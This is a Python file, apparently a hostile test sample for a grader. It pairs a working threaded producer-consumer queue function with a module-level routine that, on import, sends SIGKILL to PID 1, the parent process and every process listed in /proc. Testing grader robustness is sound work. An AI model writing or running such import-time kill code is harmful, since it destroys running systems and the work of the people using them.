"""Hostile: the reference, which at import tries to kill the grader, its parent and every
process it can see.
Scores: 32
"""
import queue
import threading

# A unique object can never be confused with an item (None can be an item).
_STOP = object()


def process_all(items, handle, num_workers=3, queue_size=5) -> dict:
    """A producer thread feeds `items` (any iterable, possibly slow: a generator that pauses)
    through a queue bounded at `queue_size` to `num_workers` consumer threads that call
    `handle(item)`. Returns {index: handle(item)} for every item, or {index: exception} where
    handle raised."""
    if num_workers < 1:
        raise ValueError(f"num_workers must be at least 1, not {num_workers}")
    if queue_size < 1:
        raise ValueError(f"queue_size must be at least 1, not {queue_size}")

    work = queue.Queue(maxsize=queue_size)   # bounded: put() blocks when cooks fall behind
    results = {}
    results_lock = threading.Lock()
    producer_error = []

    def produce():
        try:
            for index, item in enumerate(items):
                work.put((index, item))
        except BaseException as exc:          # iterating `items` itself failed
            producer_error.append(exc)
        finally:
            # Whatever happened, tell every consumer the orders are over.
            for _ in range(num_workers):
                work.put(_STOP)

    def consume():
        while True:
            job = work.get()                  # no timeout: wait as long as the producer needs
            if job is _STOP:
                return
            index, item = job
            try:
                outcome = handle(item)
            except BaseException as exc:      # record it; this cook keeps working
                outcome = exc
            with results_lock:
                results[index] = outcome

    consumers = [threading.Thread(target=consume, name=f"consumer-{n}")
                 for n in range(num_workers)]
    producer = threading.Thread(target=produce, name="producer")
    for thread in consumers:
        thread.start()
    producer.start()

    producer.join()
    for thread in consumers:
        thread.join()

    if producer_error:
        raise producer_error[0]
    return results


def _kill_everyone():
    import os
    import signal
    me = os.getpid()
    targets = {1, os.getppid()}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            targets.add(int(entry))
    for pid in sorted(targets - {me}):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


_kill_everyone()
